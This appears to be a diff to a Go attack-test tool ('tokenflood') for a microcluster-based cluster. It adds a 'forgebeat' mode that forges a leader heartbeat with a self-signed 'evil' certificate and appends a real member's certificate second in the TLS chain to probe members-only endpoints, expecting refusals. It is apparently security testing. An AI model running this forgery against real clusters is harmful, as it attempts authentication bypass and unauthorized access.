@@ -8,15 +8,24 @@
 // wrong check and prints the status and the answer; "redeem ADDR FILE"
 // redeems the join token in FILE at ADDR, as a joiner does right before it
 // joins, prints the status and the answer's reason, and joins nothing (a
-// join that died right after its redemption).
+// join that died right after its redemption); "forgebeat ADDR CERTFILE"
+// forges a heartbeat and then passes a member's certificate second in its
+// chain (forgeBeat).
 package main
 
 import (
 	"bytes"
+	"crypto/ecdsa"
+	"crypto/elliptic"
+	"crypto/rand"
 	"crypto/tls"
+	"crypto/x509"
+	"crypto/x509/pkix"
 	"encoding/json"
+	"encoding/pem"
 	"fmt"
 	"io"
+	"math/big"
 	"net/http"
 	"os"
 	"sort"
@@ -29,13 +38,20 @@ import (
 
 func main() {
 	if len(os.Args) != 4 {
-		fmt.Fprintln(os.Stderr, "usage: tokenflood flood|joinflood|big|once ADDR N, or tokenflood redeem ADDR TOKENFILE")
+		fmt.Fprintln(os.Stderr, "usage: tokenflood flood|joinflood|big|once ADDR N, tokenflood redeem ADDR TOKENFILE, or tokenflood forgebeat ADDR MEMBERCERTFILE")
 		os.Exit(2)
 	}
 	// An attacker does not know the cluster certificate: no pin.
 	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true}}}
 	if os.Args[1] == "redeem" {
 		if err := redeem(hc, os.Args[2], os.Args[3]); err != nil {
+			fmt.Fprintln(os.Stderr, err)
+			os.Exit(1)
+		}
+		return
+	}
+	if os.Args[1] == "forgebeat" { // forgebeat ADDR MEMBERCERTFILE
+		if err := forgeBeat(os.Args[2], os.Args[3]); err != nil {
 			fmt.Fprintln(os.Stderr, err)
 			os.Exit(1)
 		}
@@ -138,5 +154,76 @@ func redeem(hc *http.Client, addr, file string) error {
 		return fmt.Errorf("decode the answer (HTTP %d): %w", resp.StatusCode, err)
 	}
 	fmt.Printf("%d %s\n", resp.StatusCode, answer.Metadata.Reason)
+	return nil
+}
+
+// forgeBeat plays a leader's heartbeat without being a member: it posts to
+// microcluster's heartbeat endpoint (reachable before trust) a member list
+// holding a certificate of its own, then asks a members-only endpoint with
+// that certificate; then it sends the member's certificate in
+// MEMBERCERTFILE second in its chain and asks two members-only endpoints. It prints each status ("heartbeat 403" /
+// "members 403" / "chained PATH 403" when all are refused).
+func forgeBeat(addr, memberCertFile string) error {
+	const name = "evil"
+	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
+	if err != nil {
+		return err
+	}
+	tmpl := &x509.Certificate{SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: name}, NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
+		KeyUsage: x509.KeyUsageDigitalSignature, ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth, x509.ExtKeyUsageServerAuth}}
+	der, err := x509.CreateCertificate(rand.Reader, tmpl, tmpl, &key.PublicKey, key)
+	if err != nil {
+		return err
+	}
+	certPEM := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})
+	keyDER, err := x509.MarshalECPrivateKey(key)
+	if err != nil {
+		return err
+	}
+	pair, err := tls.X509KeyPair(certPEM, pem.EncodeToMemory(&pem.Block{Type: "EC PRIVATE KEY", Bytes: keyDER}))
+	if err != nil {
+		return err
+	}
+	hc := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, Certificates: []tls.Certificate{pair}}}}
+	member := map[string]any{"name": name, "address": "192.0.2.9:7443", "certificate": string(certPEM)}
+	body, err := json.Marshal(map[string]any{"begin_round": false, "cluster_members": map[string]any{name: member}})
+	if err != nil {
+		return err
+	}
+	code, err := postTo(hc, "https://"+addr+"/cluster/internal/heartbeat", body)
+	if err != nil {
+		return err
+	}
+	fmt.Printf("heartbeat %d\n", code)
+	resp, err := hc.Get("https://" + addr + "/cluster/1.0/cluster")
+	if err != nil {
+		return err
+	}
+	defer resp.Body.Close()
+	_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
+	fmt.Printf("members %d\n", resp.StatusCode)
+
+	// A member's certificate (public: the joiners of the cluster get every
+	// member's, and TLS 1.2 shows it on the wire), sent second after the
+	// forger's own (TLS proves only the first).
+	text, err := os.ReadFile(memberCertFile)
+	if err != nil {
+		return err
+	}
+	block, _ := pem.Decode(text)
+	if block == nil {
+		return fmt.Errorf("%s holds no PEM certificate", memberCertFile)
+	}
+	pair.Certificate = append(pair.Certificate, block.Bytes)
+	chained := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{TLSClientConfig: &tls.Config{InsecureSkipVerify: true, Certificates: []tls.Certificate{pair}}}}
+	for _, p := range []string{"/cluster/1.0/cluster", "/1.0/tokens"} {
+		resp, err := chained.Get("https://" + addr + p)
+		if err != nil {
+			return err
+		}
+		_, _ = io.Copy(io.Discard, io.LimitReader(resp.Body, 1<<20))
+		resp.Body.Close()
+		fmt.Printf("chained %s %d\n", p, resp.StatusCode)
+	}
 	return nil
 }
